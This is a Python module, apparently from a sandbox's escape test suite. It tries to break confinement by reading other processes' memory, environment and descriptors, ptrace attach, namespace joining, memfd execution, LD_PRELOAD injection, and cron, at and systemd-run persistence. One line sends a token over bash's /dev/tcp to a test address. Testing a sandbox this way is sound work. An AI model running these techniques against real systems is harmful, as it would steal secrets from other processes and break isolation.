"""Other processes: their memory, environment, descriptors and namespaces, and ending them."""

import ctypes
import os
import signal
import socket
import subprocess
import time

from common import LIBC, attempt, call, all_that_works, found, read

PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_DETACH = 16, 0x4206, 17


def number(facts, of):
    """A process's number: 1 is the session's first; outside, where the host guards its own, one of the caller's."""
    if of == 1:
        return facts["decoy"] if facts["outside"] else 1
    return facts[of]


@attempt
def read_of_process(facts, token, of, what):
    """Something in /proc of a process of the outside, by its number there."""
    return found(read(f"/proc/{facts[of]}/{what}"))


@attempt
def command_line(facts, token, of):
    """With which arguments a process of the outside was started."""
    return read(f"/proc/{facts[of]}/cmdline").replace(b"\0", b" ").decode(errors="replace")


@attempt
def file_of_process(facts, token, of, by):
    """The outside's files through the root or the working directory of a process."""
    pid = number(facts, of)
    path = facts["masked"]
    return found(read(f"/proc/{pid}/{by}{path}" if by == "root" else f"/proc/{pid}/cwd/" + "../" * 40 + path.lstrip("/")))


def memory_of(pid):
    """The first of the outside's values in a process's memory."""
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
        lines = maps.readlines()
    memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    for line in lines:
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if "r" not in rights or end - start > 64 << 20 or "[v" in line:
            continue
        try:
            got = found(os.pread(memory, end - start, start))
        except (OSError, OverflowError):
            continue
        if got:
            return got
    return ""


@attempt
def memory(facts, token, of):
    """The memory of a process."""
    return memory_of(number(facts, of))


@attempt
def all_processes(facts, token, what):
    """The environment, or the memory, of everything that can be seen."""
    tries = []
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        if int(pid) == os.getpid():
            continue
        tries.append((lambda p=pid: memory_of(p)) if what == "mem" else (lambda p=pid: found(read(f"/proc/{p}/environ"))))
    return all_that_works(tries)


@attempt
def all_descriptors(facts, token):
    """The files that other processes here hold: folders of the outside above all."""
    path = facts["masked"].lstrip("/")
    tries = []
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            at = f"/proc/{pid}/fd/{name}"
            if os.path.isdir(at):
                tries.append(lambda at=at: found(read(f"{at}/" + "../" * 40 + path)))
                tries.append(lambda at=at: found(read(f"{at}/" + os.path.basename(path))))
            elif os.path.isfile(at):
                tries.append(lambda at=at: found(read(at)))
    return all_that_works(tries)


@attempt
def trace(facts, token, of):
    """Attaches to a process as a debugger does."""
    pid = number(facts, of)
    call("ptrace", PTRACE_SEIZE, pid, 0, 0)
    call_quietly("ptrace", PTRACE_DETACH, pid, 0, 0)
    return "attached"


def call_quietly(*arguments):
    try:
        call(*arguments)
    except OSError:
        pass


@attempt
def trace_by_other_table(facts, token, by):
    """The same by a number of another machine's table."""
    done = subprocess.run([facts["compat"], by, "ptrace", str(facts["decoy"])], capture_output=True, check=False)
    if done.returncode:
        raise OSError(done.returncode if done.returncode > 0 else 38, "compat")
    return "attached"


@attempt
def read_memory_by_call(facts, token, of):
    """The same memory without /proc: process_vm_readv, at where the stack is by /proc or by guess."""
    pid = number(facts, of)
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
        stack = next((line for line in maps if "[stack]" in line), "7ffffffde000-7ffffffff000")
    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
    buffer = ctypes.create_string_buffer(end - start)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), end - start)
    remote = (ctypes.c_uint64 * 2)(start, end - start)
    size = call("process_vm_readv", pid, local, 1, remote, 1, 0)
    return found(buffer.raw[:size])


@attempt
def end_process(facts, token, of, by):
    """Asks a process of the outside to end."""
    pid = facts[of]
    if by == "kill":
        os.kill(pid, signal.SIGTERM)
    elif by == "group":
        os.killpg(pid, signal.SIGTERM)
    elif by == "pidfd":
        call("pidfd_send_signal", os.pidfd_open(pid), signal.SIGTERM, None, 0)
    elif by == "owner":
        # The kernel sends it for the owner of a socket.
        import fcntl
        one, other = socket.socketpair()
        fcntl.fcntl(one, fcntl.F_SETOWN, pid)
        fcntl.fcntl(one, 10, signal.SIGTERM)
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
        other.send(b"x")
        time.sleep(0.1)
    return "asked"


@attempt
def end_everything(facts, token, of):
    """Asks everything that it may to end; outside, where that would be this machine, just the one process."""
    os.kill(facts[of] if facts["outside"] else -1, signal.SIGTERM)
    return "asked"


@attempt
def take_descriptor(facts, token, of):
    """A descriptor out of another process."""
    pid = number(facts, of)
    handle = os.pidfd_open(pid)
    for descriptor in range(64):
        try:
            call("pidfd_getfd", handle, descriptor, 0)
            return "taken"
        except OSError as error:
            if error.errno != 9:
                raise
    return ""


def join(path, kind=0):
    handle = os.open(path, os.O_RDONLY)
    call("setns", handle, kind)


@attempt
def join_namespace(facts, token, of, kind):
    """Joins a namespace of another process, and looks for what is there."""
    pid = number(facts, of)
    join(f"/proc/{pid}/ns/{kind}")
    if kind == "mnt":
        return found(read(facts["masked"]))
    return "joined"


@attempt
def join_by_pidfd(facts, token, of):
    """The same by a process descriptor."""
    call("setns", os.pidfd_open(facts[of]), 0x20000)
    return found(read(facts["masked"]))


@attempt
def from_memory(facts, token):
    """A program that is in no file: it reads the outside's file."""
    handle = os.memfd_create("x", 0)
    with open("/bin/cat", "rb") as file:
        os.write(handle, file.read())
    done = subprocess.run([f"/proc/self/fd/{handle}", facts["masked"]], pass_fds=[handle], capture_output=True, check=False)
    if done.returncode:
        raise FileNotFoundError(2, done.stderr.decode(errors="replace"))
    return found(done.stdout)


@attempt
def from_memory_out(facts, token):
    """A program that is in no file: it speaks to the outside."""
    handle = os.memfd_create("x", 0)
    with open("/bin/bash", "rb") as file:
        os.write(handle, file.read())
    host, port = facts["loop4"]
    script = f"echo {token} > /dev/tcp/{host}/{port}"
    done = subprocess.run([f"/proc/self/fd/{handle}", "-c", script], pass_fds=[handle], capture_output=True, check=False)
    if done.returncode:
        raise ConnectionRefusedError(111, done.stderr.decode(errors="replace"))


@attempt
def preloaded(facts, token):
    """A library of the attacker's in a program of the host's, which makes its calls past libc."""
    environment = {**os.environ, "LD_PRELOAD": facts["preload"], "PRELOAD_READS": facts["masked"]}
    done = subprocess.run(["/bin/true"], env=environment, capture_output=True, check=False)
    if not done.stdout:
        raise FileNotFoundError(2, "nothing was read")
    return found(done.stdout)


@attempt
def preloaded_run(facts, token):
    """The same library in `avouch run`, which speaks with the helper."""
    environment = {**os.environ, "LD_PRELOAD": facts["preload"], "PRELOAD_SAYS": facts["session_socket"]}
    done = subprocess.run([facts["avouch"], "--runtime-dir", facts["runtime"], "status"], env=environment,
                          capture_output=True, check=False)
    if b"connected" not in done.stdout:
        raise FileNotFoundError(2, "no connection")
    return "connected"


@attempt
def shell_escape(facts, token, name):
    """Programs that do for others what those may not: timers, cron, the service manager."""
    target = facts["left_behind"]
    commands = {
        "systemd-run": ["systemd-run", "--user", "--wait", "--quiet", "/bin/sh", "-c", f"echo {token} >> {target}"],
        "crontab": ["crontab", "-"],
        "at": ["at", "now"],
    }
    line = f"* * * * * echo {token} >> {target}\n" if name == "crontab" else f"echo {token} >> {target}\n"
    done = subprocess.run(commands[name], input=line.encode(), capture_output=True, timeout=10, check=False)
    if done.returncode:
        raise PermissionError(1, done.stderr.decode(errors="replace")[:200])
